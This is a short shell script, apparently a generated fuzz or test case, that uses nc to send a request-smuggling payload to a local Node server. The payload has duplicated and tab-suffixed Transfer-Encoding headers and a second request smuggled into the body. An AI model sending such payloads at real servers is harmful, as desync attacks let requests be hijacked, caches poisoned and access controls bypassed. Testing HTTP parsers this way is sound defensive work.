#!/bin/sh
# desync/te-chunked-repeated/smuggled-request via header.insert-transfer-encoding+stream.duplicate against node
printf 'POST / HTTP/1.1\r\nTransfer-Encoding: chunked\t\r\nHost: 127.0.0.1:58937\r\nTransfer-Encoding: chunked\r\n\r\n5;a="b"\r\nhello\r\n0\r\n\r\nPOST /e.1\r\nHost: {h\r\nTransfer-Encoding: chunked\r\n\r\n5;a="b"\r\nhello\r\n0\r\n\r\n' | nc 127.0.0.1 ${PORT:-58937}
